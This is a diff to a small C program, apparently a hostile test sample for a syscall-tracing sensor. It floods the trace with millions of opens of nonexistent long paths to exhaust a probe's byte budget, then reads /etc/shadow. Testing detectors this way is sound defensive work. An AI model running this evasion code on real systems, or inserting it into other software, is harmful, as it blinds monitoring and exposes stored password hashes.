@@ -1,17 +1,16 @@
-/* Malicious, sensor-evasive: floods the syscall trace (stat of long, ever-changing paths that do not
- * exist) so that a probe with a byte budget gives up, and only then reads /etc/shadow
+/* Malicious, sensor-evasive: floods the syscall trace (opens of long, ever-changing paths that do
+ * not exist) so that a probe with a byte budget gives up, and only then reads /etc/shadow
  * (T1562.006 indicator blocking, then T1003.008). argv[1]: flood iterations (default 5 000 000). */
 #include "common.h"
 #include <fcntl.h>
-#include <sys/stat.h>
 int main(int argc, char **argv) {
   long n = argc > 1 ? atol(argv[1]) : 5000000;
   char path[200];
-  struct stat st;
   SAY("integrity-flood: flooding the trace with %ld calls", n);
   for (long i = 0; i < n; i++) {
     snprintf(path, sizeof path, "/var/tmp/.flood/%0120ld/%ld", i, i);
-    (void)stat(path, &st);
+    int f = open(path, O_RDONLY);
+    if (f >= 0) close(f);
   }
   int fd = open("/etc/shadow", O_RDONLY);
   if (fd < 0) { WARN("open /etc/shadow"); return 1; }
